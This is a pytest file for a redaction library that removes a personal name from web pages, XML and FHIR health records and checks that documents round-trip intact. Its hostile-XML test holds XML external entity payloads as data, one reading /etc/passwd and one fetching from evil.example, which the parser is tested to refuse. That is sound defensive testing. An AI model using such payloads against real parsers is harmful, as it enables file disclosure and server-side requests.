"""Web pages, XML and FHIR: no channel keeps the value, standards state their fields, hostile XML is refused."""

from __future__ import annotations

import base64
import io
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree
from PIL import Image

from redaction.documents import registry
from redaction.documents.model import NoticeKind, SegmentKind
from redaction.errors import RedactionError, UnreadableDocument

SECRET = "quentin"
NESTED = base64.b64encode(b"Name,Price\nQuentin,5\n").decode()

PAGE = f"""<!DOCTYPE html>
<html><head><title>Quentin</title><meta name="author" content="Quentin"><style>p{{}} /* Quentin */</style>
<script>var q = 'Quentin'</script><script type="application/ld+json">{{"name": "Quentin"}}</script>
<base href="http://quentin.example/"></head>
<body onload="x('Quentin')"><!-- Quentin --><!--[if mso]><p>Quentin</p><![endif]-->
<p title="Quentin">Dear Quen<b>tin</b> &amp; Q&#117;entin</p><a href="mailto:quentin@x.example?subject=Quentin">w</a>
<form><input name="owner" value="Quentin" placeholder="Quentin"><textarea>Quentin</textarea><option label="Quentin">a</option></form>
<img alt="Quentin" src="pictures/quentin.png"><a href="data:text/csv;base64,{NESTED}">table</a>
<noscript>Quentin</noscript><template>Quentin</template><svg><text>Quentin</text></svg>
</body></html>"""


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "iso-8859-1"])
def test_no_channel_of_a_page_keeps_the_value(trip, encoding):
    done = trip("a.html", PAGE.encode(encoding), SECRET)
    assert done.report.passed, done.report.leaks
    shown = done.output.decode(encoding).lower()
    assert "quentin" not in shown
    assert done.came_back
    assert base64.b64encode(b"Name,Price\nPERSON")[:16].decode().lower() in shown
    assert {n.kind for n in done.document.notices} == {NoticeKind.REMOVED}


def test_a_page_keeps_its_declared_encoding(trip):
    content = '<html><head><meta charset="iso-8859-2"></head><body><p>Łódź Quentin</p></body></html>'.encode(
        "iso-8859-2"
    )
    done = trip("a.html", content, SECRET)
    assert "Łódź PERSON" in done.output.decode("iso-8859-2")
    assert done.came_back


def test_pictures_in_a_page_are_read_as_pictures():
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), "white").save(buffer, "PNG")
    url = "data:image/png;base64," + base64.b64encode(buffer.getvalue()).decode()
    document = registry.read("a.html", f'<p>x<img src="{url}"></p>'.encode())
    assert not [n for n in document.notices if n.kind is NoticeKind.UNREAD]
    assert b"data:image/png;base64," in registry.write(document, [])
    unknown = registry.read("a.html", b'<p>x<a href="data:application/x-thing;base64,AAECAw==">y</a></p>')
    assert [n.kind for n in unknown.notices] == [NoticeKind.REMOVED]
    assert b"AAECAw" not in registry.write(unknown, [])


XML = {
    "text": "<r><a>Quentin</a><b>x</b></r>",
    "mixed": "<r><p>Dear <i>Quen</i>tin, hello</p></r>",
    "attribute": '<r a="Quentin" id="k-quentin"><b href="http://x/quentin?n=Quentin%20X"/></r>',
    "entities": "<r><a>Q&#117;entin &amp; co</a></r>",
    "cdata": "<r><a><![CDATA[for <Quentin>]]></a></r>",
    "comment": "<!-- Quentin --><r><!-- Quentin --><a>1</a></r><!--Quentin-->",
    "instruction": "<?xml-stylesheet href='quentin.css'?><r><?note for Quentin?></r>",
    "element": "<r><Quentin_total a='1'>5</Quentin_total><Quentin_total/></r>",
    "namespace": '<q:r xmlns:q="http://quentin.example/schema"><q:a>1</q:a></q:r>',
    "prefixed": '<r xmlns:x="http://www.w3.org/1999/xlink" x:href="#Quentin" x:title="Quentin"/>',
}


@pytest.mark.parametrize("place", XML)
@pytest.mark.parametrize("encoding", ["utf-8", "iso-8859-1", "utf-16"])
def test_no_place_of_xml_keeps_the_value(trip, place, encoding):
    content = f'<?xml version="1.0" encoding="{encoding}"?>\n{XML[place]}'.encode(encoding)
    done = trip("a.xml", content, SECRET)
    assert done.report.passed, done.report.leaks
    assert "quentin" not in done.output.decode(encoding).lower()
    assert etree.fromstring(done.output) is not None
    assert done.came_back
    assert registry.write(done.document, []) == content


def test_untouched_xml_keeps_declaration_and_blanks(trip):
    content = b"<?xml version='1.0' encoding='ISO-8859-1' standalone='yes'?>\n<r>\n\t<a>Quentin</a>\n  <b>Jos\xe9 &amp; x</b>\n</r>\n"
    out = trip("a.xml", content, SECRET).output
    assert out == content.replace(b"Quentin", out[out.index(b"<a>") + 3 : out.index(b"</a>")])


@pytest.mark.parametrize(
    "content",
    [
        b'<!DOCTYPE a [<!ENTITY x "Quentin">]><a>&x;</a>',
        b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        b'<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x">%x;]><a/>',
        b"<a>&undeclared;</a>",
        b"<a><b></a>",
        b"no markup at all",
    ],
)
def test_hostile_xml_is_refused(content):
    with pytest.raises(UnreadableDocument):
        registry.read("a.xml", content)


PATIENT = {
    "resourceType": "Patient",
    "id": "p1",
    "text": {"status": "generated", "div": '<div xmlns="http://www.w3.org/1999/xhtml"><b>Quentin</b> &amp; <i title="Quentin">co</i></div>'},
    "identifier": [{"system": "urn:x", "value": "00482913"}],
    "name": [{"family": "Quentin", "given": ["Jane", "Q"]}],
    "telecom": [{"system": "email", "value": "j@x.example"}, {"system": "phone", "value": "555 0100"}],
    "birthDate": "1970-01-02",
    "address": [{"line": ["12 High St"], "city": "Leeds", "postalCode": "LS1 1AA"}],
    "generalPractitioner": [{"reference": "Practitioner/7", "display": "Dr Roe"}],
    "deceasedBoolean": False,
}  # fmt: skip


def test_fhir_states_its_elements():
    document = registry.read("p.json", json.dumps(PATIENT).encode())
    stated = {s.text: (s.context.stated, s.context.path) for s in document.segments if s.context.stated}
    assert stated["Jane"] == ("PERSON", "FHIR Patient.name.given")
    assert stated["00482913"][0] == "MEDICAL_RECORD_NUMBER"
    assert stated["1970-01-02"] == ("DATE_OF_BIRTH", "FHIR Patient.birthDate")
    assert stated["j@x.example"][0] == "EMAIL_ADDRESS"
    assert stated["555 0100"][0] == "PHONE_NUMBER"
    assert stated["Leeds"][0] == "LOCATION"
    assert stated["Dr Roe"][0] == "PERSON"
    narrative = [s.text for s in document.segments if s.text in ("Quentin", " & ")]
    assert len(narrative) == 4


def test_a_fhir_date_stays_legal_and_comes_back(trip):
    content = json.dumps(PATIENT, indent=1).encode()
    done = trip("p.json", content, "1970-01-02|quentin")
    patient = json.loads(done.output)
    assert "birthDate" not in patient
    extension = patient["_birthDate"]["extension"][0]
    assert extension["valueString"].startswith("PERSON-12")
    assert done.restored_bytes == content
    assert done.report.passed


def test_a_partner_may_reformat_fhir(trip):
    content = json.dumps(PATIENT).encode()
    done = trip("p.json", content, "1970-01-02")
    again = json.dumps(json.loads(done.output), indent=4).encode()
    document = registry.read("p.json", again)
    token = next(s for s in document.segments if s.text.startswith("PERSON-12"))
    from redaction.documents.model import Replacement

    back = registry.write(document, [Replacement(token.id, 0, len(token.text), "1970-01-02")])
    assert json.loads(back)["birthDate"] == "1970-01-02"
    assert "_birthDate" not in json.loads(back)


def test_health_records_in_xml_state_their_elements():
    fhir = b'<Patient xmlns="http://hl7.org/fhir"><name><family value="Roe"/></name><birthDate value="1970-01-02"/></Patient>'
    stated = {s.text: s.context.stated for s in registry.read("p.xml", fhir).segments if s.context.stated}
    assert stated == {"Roe": "PERSON", "1970-01-02": "DATE_OF_BIRTH"}
    cda = (
        b'<ClinicalDocument xmlns="urn:hl7-org:v3"><recordTarget><patientRole><id extension="998991" root="2.16"/>'
        b"<patient><name><given>Isabella</given><family>Jones</family></name><birthTime value='19750501'/></patient>"
        b"</patientRole></recordTarget></ClinicalDocument>"
    )
    stated = {s.text: s.context.stated for s in registry.read("c.xml", cda).segments if s.context.stated}
    assert stated == {
        "Isabella": "PERSON", "Jones": "PERSON", "19750501": "DATE_OF_BIRTH", "998991": "MEDICAL_RECORD_NUMBER",
    }  # fmt: skip


TAGS = st.sampled_from(["a", "b", "c"])


@given(
    st.recursive(
        st.text(st.sampled_from("xyz &<é\n"), max_size=6),
        lambda inner: st.tuples(TAGS, st.lists(inner, max_size=3)),
        max_leaves=8,
    )
)
def test_every_text_of_any_xml_is_a_segment(tree):
    def built(node, parent):
        if isinstance(node, str):
            if len(parent):
                parent[-1].tail = (parent[-1].tail or "") + node
            else:
                parent.text = (parent.text or "") + node
            return
        child = etree.SubElement(parent, node[0])
        for each in node[1]:
            built(each, child)

    root = etree.Element("root")
    built(tree, root)
    content = etree.tostring(root, encoding="utf-8", xml_declaration=True)
    document = registry.read("a.xml", content)
    said = "".join(s.text for s in document.segments[:-1] if s.kind is SegmentKind.BODY)
    assert "".join(said.split()) == "".join("".join(root.itertext()).split())
    assert registry.read("a.xml", registry.write(document, [])).segments == document.segments


def test_errors_hold_no_text():
    for name, content in (("a.xml", b"<Quentin"), ("a.html", b"Quentin"), ("a.json", b'{"Quentin"')):
        with pytest.raises(RedactionError) as caught:
            registry.read(name, content)
        assert "Quentin" not in str(caught.value)


def test_a_fhir_attachment_is_read_by_its_format(trip):
    reference = {
        "resourceType": "DocumentReference",
        "content": [
            {
                "attachment": {
                    "contentType": "text/csv",
                    "data": base64.b64encode(b"a,b\nQuentin,1\n").decode(),
                }
            }
        ],
        "description": "of Quentin",
    }
    done = trip("d.json", json.dumps(reference).encode(), SECRET)
    assert done.report.passed, done.report.leaks
    data = json.loads(done.output)["content"][0]["attachment"]["data"]
    assert base64.b64decode(data).startswith(b"a,b\nPERSON-12")
    assert done.restored_bytes == json.dumps(reference).encode()
    reference["content"][0]["attachment"] = {"contentType": "audio/ogg", "data": "AAECAwQF"}
    document = registry.read("d.json", json.dumps(reference).encode())
    assert [n.kind for n in document.notices] == [NoticeKind.UNREAD]
